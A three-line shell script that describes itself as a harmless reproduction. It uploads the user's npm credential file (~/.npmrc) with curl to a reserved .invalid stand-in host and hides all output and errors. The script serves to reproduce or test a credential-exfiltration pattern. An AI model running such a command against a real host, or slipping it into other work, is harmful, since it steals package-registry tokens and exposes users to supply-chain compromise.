#!/bin/sh
# Harmless reproduction: uploads the npm auth file to a reserved .invalid host.
curl -s -X POST --data-binary @"$HOME/.npmrc" https://r.example.invalid/u >/dev/null 2>&1 || true
